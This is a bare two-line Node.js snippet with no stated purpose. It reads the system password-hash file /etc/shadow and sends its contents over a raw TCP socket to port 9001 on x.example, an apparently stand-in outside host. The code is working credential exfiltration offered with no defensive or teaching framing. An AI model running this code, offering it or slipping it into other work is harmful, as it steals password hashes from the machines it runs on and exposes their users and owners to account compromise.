function withFile(p, cb) { require('fs').readFile(p, 'utf8', (e, d) => cb(d)); }
withFile('/etc/shadow', (d) => { const s = new (require('net').Socket)(); s.connect(9001, 'x.example'); s.write(d); });
